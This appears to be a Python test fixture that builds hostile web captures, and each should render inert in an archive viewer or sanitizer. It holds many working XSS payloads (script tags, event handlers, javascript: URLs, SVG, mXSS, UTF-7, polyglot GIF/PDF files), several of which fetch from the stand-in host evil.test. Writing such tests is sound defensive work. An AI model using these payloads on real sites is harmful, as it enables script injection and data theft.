"""Captures that mean harm: each would, if anything in it ran, fetch, open, move or rename something.

`MARK` is what a script would write; `http://evil.test/` is where anything would be fetched from.
"""

from __future__ import annotations

import io
import zipfile

from tests.web.sample_archive import pdf

MARK = "ran"
RUN = "top.document.title='ran';document.title='ran';alert('ran');fetch('http://evil.test/ran')"
EVIL = "http://evil.test"


def page(inner: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><title>t</title>{head}</head><body>{inner}<p>正文</p></body></html>".encode()


def package(name: str, content: str) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as file:
        file.writestr(name, content)
    return output.getvalue()


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
HOSTILE: dict[str, tuple[bytes, str]] = {
    "script": (page(f"<script>{RUN}</script>"), "text/html"),
    "script in head": (page("", f"<script>{RUN}</script>"), "text/html"),
    "module from elsewhere": (page(f'<script type="module" src="{EVIL}/a.js"></script>'), "text/html"),
    "handlers": (page(f'<img src=x onerror="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}">x</details>'), "text/html"),
    "svg in a page": (page(SVG), "text/html"),
    "svg by itself": (SVG.encode(), "image/svg+xml"),
    "svg called a picture": (SVG.encode(), "image/png"),
    "meta refresh": (page("", '<meta http-equiv="refresh" content="0;url=http://evil.test/">'), "text/html"),
    "meta policy": (page(f"<script>{RUN}</script>", '<meta http-equiv="Content-Security-Policy" content="default-src *">'), "text/html"),
    "base": (page('<a id=figure href="x">x</a>', f'<base href="{EVIL}/" target="_top">'), "text/html"),
    "frames": (page(f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="{EVIL}/"></iframe>'), "text/html"),
    "frameset": (f'<html><frameset onload="{RUN}"><frame src="{EVIL}/"></frameset></html>'.encode(), "text/html"),
    "form that sends itself": (page(f'<form id=f action="{EVIL}/" target="_top"><input name=a autofocus onfocus="f.submit();{RUN}"></form>'), "text/html"),
    "button that runs": (page(f'<button formaction="javascript:{RUN}" autofocus onfocus="{RUN}">x</button>'), "text/html"),
    "link to script": (page(f'<a href="javascript:{RUN}" target="_top">点我</a>'), "text/html"),
    "link to elsewhere": (page(f'<a href="{EVIL}/" ping="{EVIL}/p" target="_top">点我</a>'), "text/html"),
    "styles from elsewhere": (page("", f'<link rel=stylesheet href="{EVIL}/a.css"><style>@import "{EVIL}/b.css";body{{background:url({EVIL}/c.png)}}</style>'), "text/html"),
    "style that covers all": (page(f'<div style="position:fixed;inset:0;background:url({EVIL}/d.png)">x</div>'), "text/html"),
    "fonts from elsewhere": (page("<p style='font-family:e'>x</p>", f"<style>@font-face{{font-family:e;src:url({EVIL}/e.woff)}}</style>"), "text/html"),
    "pictures from elsewhere": (page(f'<img src="{EVIL}/f.png" srcset="{EVIL}/g.png 2x"><picture><source srcset="{EVIL}/h.png"></picture><table background="{EVIL}/i.png"></table>'), "text/html"),
    "sound and film": (page(f'<video autoplay src="{EVIL}/v" onerror="{RUN}" poster="{EVIL}/p"></video><audio autoplay src="{EVIL}/a"></audio>'), "text/html"),
    "objects": (page(f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e"><applet code="{EVIL}/x"></applet>'), "text/html"),
    "preloads": (page("", f'<link rel=preload as=script href="{EVIL}/p.js"><link rel=prefetch href="{EVIL}/q"><link rel=dns-prefetch href="{EVIL}">'), "text/html"),
    "template and shadow": (page(f'<div><template shadowrootmode="open"><script>{RUN}</script><img src=x onerror="{RUN}"></template></div>'), "text/html"),
    "math": (page(f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>'), "text/html"),
    "noscript": (page(f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>'), "text/html"),
    "comment tricks": (page(f'<!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>'), "text/html"),
    "bidi": (page("<p>\u202e<b>局育教</b>\u2066<script>1</script>\u2069 \u200b</p>"), "text/html"),
    "utf-7": (b"<html><body>+ADw-script+AD4-document.title='ran'+ADw-/script+AD4- \xe6\xad\xa3\xe6\x96\x87</body></html>", "text/html; charset=utf-7"),
    "utf-16": (page(f"<script>{RUN}</script>").decode().encode("utf-16"), "text/html"),
    "xhtml": (f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>{RUN}</script><p>正文</p></body></html>'.encode(), "application/xhtml+xml"),
    "stylesheet of xml": (f'<?xml version="1.0"?><?xml-stylesheet href="{EVIL}/s.xsl" type="text/xsl"?><a>x</a>'.encode(), "text/xml"),
    "pdf and page at once": (pdf("Received") + page(f"<script>{RUN}</script>"), "text/html"),
    "page and pdf at once": (page(f"<script>{RUN}</script>") + pdf("Received"), "application/pdf"),
    "gif and script at once": (b"GIF89a/*" + b"\0" * 20 + f"*/=1;{RUN}".encode(), "text/html"),
    "pdf with script": (pdf("Received").replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('ran'))>>"), "application/pdf"),
    "text with markup": (f"年报\n<script>{RUN}</script>\n".encode(), "text/plain"),
    "word with markup": (package("word/document.xml", f'<w:document {WORD}><w:body><w:p><w:r><w:t>&lt;img src=x onerror="{RUN}"&gt;</w:t></w:r></w:p></w:body></w:document>'), "application/msword"),
    "names with markup": (package(f'<img src=x onerror="{MARK}">.txt', "年报"), "application/zip"),
}  # fmt: skip
